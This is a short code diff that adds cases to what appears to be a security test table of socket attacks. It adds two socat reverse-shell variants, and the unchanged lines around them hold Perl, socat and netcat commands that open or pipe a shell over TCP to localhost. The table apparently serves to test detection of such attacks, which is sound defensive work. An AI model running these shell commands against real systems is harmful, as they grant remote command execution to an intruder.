@@ -28,6 +28,10 @@ const Attack kSocketAttacks[] = {
                             "IO::Socket::INET->new(\"127.0.0.1:@COMMAND_PORT\"); "
                             "open(STDIN, \"<&\", $s); exec \"/bin/sh\"'"),
     SOCKET_CASE("socat calls", "timeout 5 socat TCP:127.0.0.1:@COMMAND_PORT EXEC:bash"),
+    SOCKET_CASE("socat calls, with pipes",
+                "timeout 5 socat TCP:127.0.0.1:@COMMAND_PORT EXEC:bash,pipes"),
+    SOCKET_CASE("socat calls, with pipes and a shell in between",
+                "timeout 5 socat TCP:127.0.0.1:@COMMAND_PORT SYSTEM:'exec bash -s',pipes"),
     SOCKET_CASE("socat listens",
                 "timeout 5 socat TCP-LISTEN:@PORT,reuseaddr EXEC:bash & " CALL "; wait"),
     {"nc listens and sh reads", "timeout 9 nc -l -p @PORT | sh & " CALL "; wait",
